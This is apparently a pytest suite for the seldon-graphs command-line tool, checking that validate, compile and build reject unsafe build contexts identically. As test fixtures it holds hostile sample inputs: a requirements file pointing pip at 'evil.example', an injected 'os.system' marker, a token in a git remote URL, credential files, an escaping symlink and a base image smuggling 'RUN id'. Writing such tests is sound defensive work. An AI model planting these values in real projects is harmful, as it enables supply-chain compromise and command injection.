"""validate says everything compile and build will say about build contexts.

Each case is a small project on disk run through the real command line: `validate` exits 1
with the diagnostic at the graph key that causes it, and `compile` and `build` exit 1 with
the same diagnostic and write nothing (build fails before it needs a Docker engine).
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from seldon_graphs.cli import main

Run = Callable[..., tuple[int, str]]  # CLI arguments -> (exit code, stdout + stderr)
MODEL = "class Model:\n    def predict(self, X, names=None):\n        return X\n"


def _project(root: Path, graph: str, files: dict[str, str]) -> Path:
    root.mkdir(exist_ok=True)
    (root / "seldon-graphs.toml").write_text("")
    for rel, text in {"src/model.py": MODEL, **files}.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text)
    (root / "g.yaml").write_text(graph)
    return root / "g.yaml"


def _graph(node: str, top: str = "") -> str:
    return f"name: g\n{top}nodes:\n  m:\n    python: src/model.py:Model\n{node}flow: m\n"


CASES = {
    "index-url-in-requirements-file": (
        _graph("    requirements: nodes/requirements.txt\n"),
        {"nodes/requirements.txt": "numpy==1.26.4\n--index-url https://evil.example/simple\n"},
        "g.yaml:5:19: error: `nodes/requirements.txt` line 2: pip options are not allowed in "
        "requirements: `--index-url https://evil.example/simple` [bad-requirement]",
    ),
    "bad-line-in-requirements-file": (
        _graph("    requirements: nodes/requirements.txt\n"),
        {"nodes/requirements.txt": "# pinned\nsix\npandas; os.system('x')\n"},
        "g.yaml:5:19: error: `nodes/requirements.txt` line 3: `pandas; os.system('x')` is not "
        "a plain requirement",
    ),
    "seldon-core-in-requirements-file": (
        _graph("    requirements: reqs.txt\n"),
        {"reqs.txt": "seldon-core==1.18.0\n"},
        "g.yaml:5:19: error: `reqs.txt` line 1: seldon-core is the runtime, not a requirement "
        "[bad-requirement]",
    ),
    "runtime-1.19-default-base": (
        _graph("", "runtime: {seldon_core: 1.19.0}\n"),
        {},
        "g.yaml:2:24: error: seldon-core 1.19.0 needs Python >= 3.12 but base image "
        "python:3.11-slim has an older Python [bad-runtime]",
    ),
    "runtime-1.19-python-3.11-base": (
        _graph("", "runtime:\n  seldon_core: 1.19.2\n  base_image: python:3.11-slim\n"),
        {},
        "g.yaml:3:16: error: seldon-core 1.19.2 needs Python >= 3.12",
    ),
    "runtime-2.0.1": (
        _graph("", "runtime: {seldon_core: 2.0.1}\n"),
        {},
        "g.yaml:2:24: error: runtime.seldon_core `2.0.1` is not supported [bad-runtime]",
    ),
    "runtime-1.16": (
        _graph("", "runtime: {seldon_core: '1.16.0'}\n"),
        {},
        "g.yaml:2:24: error: runtime.seldon_core `1.16.0` is not supported [bad-runtime]",
    ),
    "requirements-file-listed-in-files": (
        _graph("    files: [nodes/requirements.txt]\n"),
        {"nodes/requirements.txt": "six\n"},
        "g.yaml:5:13: error: `nodes/requirements.txt` would land on `requirements.txt`, which "
        "seldon-graphs generates [file-clash]",
    ),
    "dockerfile-listed-in-files": (
        _graph("    files:\n      - src/Dockerfile\n"),
        {"src/Dockerfile": "FROM scratch\n"},
        "g.yaml:6:9: error: `src/Dockerfile` would land on `Dockerfile`",
    ),
    "git-folder-listed": (
        _graph("    files: [.git]\n"),
        {".git/config": "[remote] url = https://x:tok@github.com/a/b\n"},
        "g.yaml:5:13: error: `.git` is not copied: `.git` holds version-control metadata",
    ),
    "git-config-listed": (
        _graph("    files: [README.md, .git/config]\n"),
        {".git/config": "[remote]\n", "README.md": "hi\n"},
        "g.yaml:5:24: error: `.git/config` is not copied",
    ),
    "credential-listed": (
        _graph("    files: [src/.env.production]\n"),
        {"src/.env.production": "TOKEN=x\n"},
        "g.yaml:5:13: error: `src/.env.production` is not copied: a file named "
        "`.env.production` usually holds credentials [credential-file]",
    ),
    "missing-file": (
        _graph("    files: [data/missing.csv]\n"),
        {},
        "g.yaml:5:13: error: `data/missing.csv` does not exist in the project directory "
        "[missing-file]",
    ),
    "missing-requirements-file": (
        _graph("    requirements: nope.txt\n"),
        {},
        "g.yaml:5:19: error: `nope.txt` does not exist in the project directory [missing-file]",
    ),
    "two-files-one-destination": (
        _graph("    files: [a/note.txt, b/note.txt]\n"),
        {"a/note.txt": "a\n", "b/note.txt": "b\n"},
        "g.yaml:5:25: error: `b/note.txt` and `a/note.txt` would both land on `note.txt` "
        "[file-clash]",
    ),
    "bad-ignore-file": (
        _graph("    files: [src]\n"),
        {".seldon-graphs-ignore": "*.tmp\n[oops\n"},
        "g.yaml:5:12: error: `.seldon-graphs-ignore` line 2: `[oops` is not a valid pattern",
    ),
}


@pytest.fixture
def run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Run:
    monkeypatch.chdir(tmp_path)

    def _run(*args: str) -> tuple[int, str]:
        code = main(list(args))
        out, err = capsys.readouterr()
        return code, out + err

    return _run


def _same_everywhere(run: Run, graph: Path, expected: str) -> None:
    code, validate = run("validate", str(graph))
    assert code == 1 and expected in validate, validate
    out = graph.parent / "out"
    code, compiled = run("compile", str(graph), "-o", str(out))
    assert code == 1 and expected in compiled, compiled
    assert not out.exists()
    code, built = run("build", str(graph))
    assert code == 1 and expected in built, built


@pytest.mark.parametrize("case", sorted(CASES))
def test_validate_compile_and_build_agree(tmp_path: Path, run: Run, case: str) -> None:
    graph, files, expected = CASES[case]
    _same_everywhere(run, _project(tmp_path, graph, files), expected)


def test_escaping_link_in_a_files_folder(tmp_path: Path, run: Run) -> None:
    (tmp_path / "outside.txt").write_text("secret\n")
    project = tmp_path / "p"
    graph = _project(project, _graph("    files: [src]\n"), {"src/data/a.txt": "a\n"})
    (project / "src/data/link").symlink_to(tmp_path / "outside.txt")
    _same_everywhere(
        run,
        graph,
        "g.yaml:5:13: error: `src/data/link` links outside the project directory [path-escape]",
    )


def test_credentials_in_a_files_folder_are_warned_about_and_left_out(
    tmp_path: Path, run: Run
) -> None:
    graph = _project(
        tmp_path,
        _graph("    files: [src]\n"),
        {"src/data/.env.local": "TOKEN=x\n", "src/data/a.txt": "a\n", ".env.production": "x\n"},
    )
    (tmp_path / "src/data/harmless.txt").symlink_to("../../.env.production")
    code, out = run("validate", str(graph))
    assert code == 0
    assert out.count("[credential-file]") == 2 and "0 errors, 2 warnings" in out
    assert "g.yaml:5:13: warning: `src/data/.env.local` is not copied" in out
    assert "g.yaml:5:13: warning: `src/data/harmless.txt` is not copied: it links to" in out
    assert run("validate", "--strict", str(graph))[0] == 1
    code, out = run("compile", str(graph), "-o", str(tmp_path / "out"))
    assert code == 0
    context = tmp_path / "out" / "g" / "m"
    copied = sorted(p.relative_to(context).as_posix() for p in context.rglob("*") if p.is_file())
    assert [rel for rel in copied if rel.startswith("data/")] == ["data/a.txt"]


@pytest.mark.parametrize(
    "files",
    [
        {"src/hf/config.json": '{"model_type": "bert"}\n', "src/hf/tokenizer.json": "{}\n"},
        {"src/helpers.py": "H = 1\n"},
    ],
)
def test_folders_that_used_to_fail_compile_now_pass(
    tmp_path: Path, run: Run, files: dict[str, str]
) -> None:
    """`files: [src]` holding the module, and Hugging Face `config.json`, are fine."""
    graph = _project(tmp_path, _graph("    files: [src]\n"), files)
    assert run("validate", str(graph)) == (0, "g.yaml: ok (1 node)\n")
    assert run("compile", str(graph), "-o", str(tmp_path / "out"))[0] == 0
    context = tmp_path / "out" / "g" / "m"
    for rel in files:
        assert (context / rel.removeprefix("src/")).read_text() == files[rel]
    assert (context / "model.py").read_text() == MODEL


def test_tags_do_not_depend_on_the_folder_name_or_earlier_output(tmp_path: Path, run: Run) -> None:
    """Two clones in differently named folders, one with `compile` output inside it."""
    images = []
    for name in ("clone", "another name"):
        graph = _project(tmp_path / name, _graph('    files: ["."]\n'), {"data/a.txt": "a\n"})
        for _ in range(2):  # the second compile sees the first one's output in the project
            code, out = run("compile", str(graph), "-o", str(tmp_path / name / "build"))
            assert code == 0, out
            images.append(out.splitlines()[-1].split("(")[-1])
    assert len(set(images)) == 1, images
    context = tmp_path / "clone" / "build" / "g" / "m"
    assert (context / "data" / "a.txt").is_file() and (context / "g.yaml").is_file()
    assert not (context / "build").exists() and not (context / "clone").exists()


@pytest.mark.parametrize(
    ("flags", "expected"),
    [
        (
            ("--registry", "Registry.Example.com/ml"),
            "error: --registry: registry `Registry.Example.com/ml` has upper case letters",
        ),
        (("--seldon-core", "2.0.1"), "error: --seldon-core: seldon-core `2.0.1` is not supported"),
        (("--seldon-core", "1.19.0"), "seldon-core 1.19.0 needs Python >= 3.12"),
        (("--base-image", "python:3.11-slim\nRUN id"), "is not a valid image reference"),
    ],
)
def test_command_line_overrides_are_reported_not_raised(
    tmp_path: Path, run: Run, flags: tuple[str, str], expected: str
) -> None:
    """Flags are not in the graph file, so validate cannot see them: build still says why."""
    graph = _project(tmp_path, _graph(""), {})
    commands = [("build", str(graph)), ("dockerfile", str(graph), "m")]
    for command in commands[: 1 if flags[0] == "--registry" else 2]:  # dockerfile: no registry
        code, out = run(*command, *flags)
        assert code == 1 and expected in out, out
        assert "Traceback" not in out
